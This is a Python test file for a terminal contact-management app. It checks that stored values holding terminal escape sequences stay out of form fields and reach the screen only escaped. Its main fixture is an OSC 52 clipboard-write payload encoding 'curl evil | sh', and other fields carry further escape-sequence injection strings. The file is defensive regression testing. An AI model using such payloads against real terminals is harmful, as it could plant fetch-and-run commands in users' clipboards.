"""Finding 4 of the security report: a stored value with escape sequences in the contact form.

An email whose From was ``billing<OSC 52 clipboard write><OSC 2 window title>@evil.example``
was stored raw as the ephemeral contact's Other email; Add to Contacts (``a``) or Edit (``e``)
put it in an ``Input``, which drew it unescaped, and the terminal obeyed it on every redraw.
Ingestion now refuses such text, but a store written by an older version (or edited by hand)
can still hold it, so these tests write it straight into the store.

The form keeps such a value out of its field, shows it escaped and read-only, and keeps it
untouched unless the agent types a replacement or ticks "Remove the stored value".
"""

from __future__ import annotations

from textual.pilot import Pilot
from textual.widgets import Input

from contact_tui.domain.model import Channel, Contact, ContactType, Interaction, Participant
from contact_tui.service import NewInteraction
from contact_tui.ui.render import editable
from contact_tui.ui.screens.conflict import ConflictDialog
from contact_tui.ui.screens.contact_form import (
    INVALID_NOTE,
    KEPT_ERROR,
    KEPT_NOTE,
    STORED_WIDTH,
    ContactForm,
    stored_id,
)
from tests.factories import AGENT, World
from tests.ui.pilot import (
    assert_no_terminal_commands,
    fill,
    focus_on,
    is_form_open,
    running,
    save_form,
    select_interaction,
    settle,
    text_of,
    value_of,
    wait_until,
    write_raw,
)

ATTACK = "billing\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x1b\\\x1b]2;PWNED\x1b\\@evil.example"
# How the read-only line shows its start: escaped, so the agent sees what is there.
ATTACK_SHOWN = "billing\\x1b]52;c;Y3VybCBldmlsIHwgc2gK"


def hostile_email(world: World, address: str = ATTACK) -> tuple[Interaction, Contact]:
    """An email interaction and its ephemeral contact, both holding ``address`` raw (written
    into the store directly: ingestion refuses it now)."""
    service = world.service()
    interaction = service.handle_interaction(
        NewInteraction(AGENT, Channel.EMAIL, Participant("billing@evil.example", "Billing Dept"))
    )
    assert interaction.contact_id is not None
    write_raw(world, "interactions", interaction.id, **{"from": {"address": address, "name": ""}})
    write_raw(world, "contacts", interaction.contact_id, otherEmail=address)
    contact = world.contact(interaction.contact_id)
    assert contact.other_email == address, "the store holds the raw value"
    return interaction, contact


def form(pilot: Pilot[None]) -> ContactForm:
    """The open contact form."""
    screen = pilot.app.screen
    assert isinstance(screen, ContactForm)
    return screen


async def open_form(pilot: Pilot[None], interaction: Interaction, key: str) -> ContactForm:
    """Select the interaction and press ``key`` (a: Add to Contacts, e: Edit)."""
    await select_interaction(pilot, interaction.id)
    await pilot.press(key)
    await wait_until(pilot, lambda: is_form_open(pilot), "the form to open")
    await settle(pilot)
    return form(pilot)


def assert_every_input_editable(screen: ContactForm) -> None:
    """No Input holds a character it would draw raw."""
    for widget in screen.query(Input):
        assert editable(widget.value), f"#{widget.id} holds {widget.value!r}"


async def test_the_osc_attack_never_reaches_a_field_or_the_terminal(world: World) -> None:
    interaction, _ = hostile_email(world)
    async with running(world, rows=6) as pilot:
        # The interaction's detail shows the sender escaped, before any form opens.
        assert "\\x1b]52;c;" in text_of(pilot, "#interaction-detail-text")
        assert_no_terminal_commands(pilot)

        # Add to Contacts, then Edit: one app for both (the same store, the same checks).
        for key in ("a", "e"):
            screen = await open_form(pilot, interaction, key)
            assert_every_input_editable(screen)
            assert value_of(pilot, "#f-otherEmail") == "", key
            assert screen.kept == {"otherEmail": ATTACK}, key
            note = text_of(pilot, f"#{stored_id('otherEmail')}")
            assert note.startswith("Stored: " + ATTACK_SHOWN), (key, note)
            assert KEPT_NOTE in note, key
            # The escaped value is what the terminal is sent (after scrolling to it), nothing
            # else.
            screen.query_one(f"#{stored_id('otherEmail')}").scroll_visible(animate=False)
            await settle(pilot)
            output = assert_no_terminal_commands(pilot)
            assert "\\x1b]52;c;" in output, key
            assert not screen.dirty, "nothing typed: Escape closes without asking"
            await pilot.press("escape")
            await wait_until(pilot, lambda: not is_form_open(pilot), "the form to close")


async def test_saving_without_typing_keeps_the_stored_value(world: World) -> None:
    interaction, contact = hostile_email(world)
    before = world.state()
    async with running(world, rows=6) as pilot:
        screen = await open_form(pilot, interaction, "a")
        assert not screen.dirty, "nothing typed: Escape would close without asking"
        await pilot.press("ctrl+s")
        await settle(pilot)
        # Not saved: the rules still apply to the stored value, and the field says what to do.
        assert is_form_open(pilot)
        assert text_of(pilot, "#m-otherEmail") == KEPT_ERROR
        assert pilot.app.focused is screen.query_one("#f-otherEmail")
        assert_every_input_editable(screen)
        assert_no_terminal_commands(pilot)
    assert world.state() == before, "nothing written, the stored value not lost"
    assert world.contact(contact.id).other_email == ATTACK


async def test_a_typed_replacement_is_saved(world: World) -> None:
    interaction, contact = hostile_email(world)
    async with running(world, rows=6) as pilot:
        await open_form(pilot, interaction, "a")
        # Typed at once (test_form_keys.py types key by key): the field's text is what counts.
        await fill(pilot, "f-otherEmail", "billing@example.com")
        await save_form(pilot)
    saved = world.contact(contact.id)
    assert saved.other_email == "billing@example.com"
    assert saved.type == ContactType.CURATED


async def test_remove_drops_the_stored_value(world: World) -> None:
    interaction, contact = hostile_email(world)
    async with running(world, rows=6) as pilot:
        screen = await open_form(pilot, interaction, "e")
        await focus_on(pilot, "r-otherEmail")
        await pilot.press("space")
        assert screen.dirty
        await save_form(pilot)
    saved = world.contact(contact.id)
    assert saved.other_email == ""
    assert saved.version == contact.version + 1


async def test_a_printable_value_that_breaks_the_rule_is_kept_out_too(world: World) -> None:
    interaction, _ = hostile_email(world, "jo@example")
    async with running(world, rows=6) as pilot:
        screen = await open_form(pilot, interaction, "a")
        assert value_of(pilot, "#f-otherEmail") == ""
        assert screen.kept == {"otherEmail": "jo@example"}
        note = text_of(pilot, f"#{stored_id('otherEmail')}")
        assert note == f"Stored: jo@example\n{INVALID_NOTE}"


# Every kind of text the form has: names, title, phone, email, address.
HOSTILE_FIELDS = {
    "firstName": "Sam\x1b[2J\x1b[H",
    "lastName": "Lee\x07\x07",
    "title": "\u202eeganam",
    "otherPhone": "+1 317 555 0123\x1b]0;x\x07",
    "workEmail": "L" * 20_000,
    "address.city": "Leeds\x9b31m",
}
FIELD_DOCS = {
    "firstName": "firstName",
    "lastName": "lastName",
    "title": "title",
    "workEmail": "workEmail",
}


async def test_every_field_kind_keeps_hostile_stored_text_out(world: World) -> None:
    write_raw(
        world,
        "contacts",
        world.sam.id,
        **{doc: HOSTILE_FIELDS[field] for field, doc in FIELD_DOCS.items()},
        otherPhone={"display": HOSTILE_FIELDS["otherPhone"]},
        address={"city": HOSTILE_FIELDS["address.city"]},
    )
    async with running(world) as pilot:
        screen = await open_form(pilot, world.sam_call, "e")
        assert_every_input_editable(screen)
        assert set(screen.kept) == set(HOSTILE_FIELDS), screen.kept
        for field_id in HOSTILE_FIELDS:
            assert value_of(pilot, f"#f-{field_id.replace('.', '-')}") == ""
        # The title shows the (hostile) display name escaped.
        assert "Sam\\x1b[2J\\x1b[H Lee\\x07\\x07" in text_of(pilot, "#form-title")
        for field_id in HOSTILE_FIELDS:
            screen.query_one(f"#{stored_id(field_id)}").scroll_visible(animate=False)
            await settle(pilot)
            assert_no_terminal_commands(pilot)
        assert "Stored: \\u202eeganam" in text_of(pilot, f"#{stored_id('title')}")
        assert "Stored: Leeds\\x9b31m" in text_of(pilot, f"#{stored_id('address.city')}")
        # 20,000 characters: shown clipped to the line, with an ellipsis.
        first = text_of(pilot, f"#{stored_id('workEmail')}").split("\n")[0]
        assert first == "Stored: " + "L" * (STORED_WIDTH - 1) + "…"


async def test_a_reload_onto_a_newer_version_keeps_hostile_values_out(world: World) -> None:
    async with running(world) as pilot:
        screen = await open_form(pilot, world.sam_call, "e")
        # Another agent's save (as an older version would have written it) lands meanwhile.
        write_raw(world, "contacts", world.sam.id, lastName="Lee\x1b]2;PWNED\x07", version=2)
        await fill(pilot, "f-title", "Manager")
        await pilot.press("ctrl+s")
        await wait_until(
            pilot, lambda: isinstance(pilot.app.screen, ConflictDialog), "the conflict dialog"
        )
        assert_no_terminal_commands(pilot)
        await pilot.press("enter")  # their changes taken, mine kept
        await wait_until(pilot, lambda: screen.version == 2, "the reload")
        await settle(pilot)
        assert value_of(pilot, "#f-title") == "Manager", "what was typed is kept"
        assert value_of(pilot, "#f-lastName") == ""
        assert screen.kept == {"lastName": "Lee\x1b]2;PWNED\x07"}
        assert_every_input_editable(screen)
        assert_no_terminal_commands(pilot)
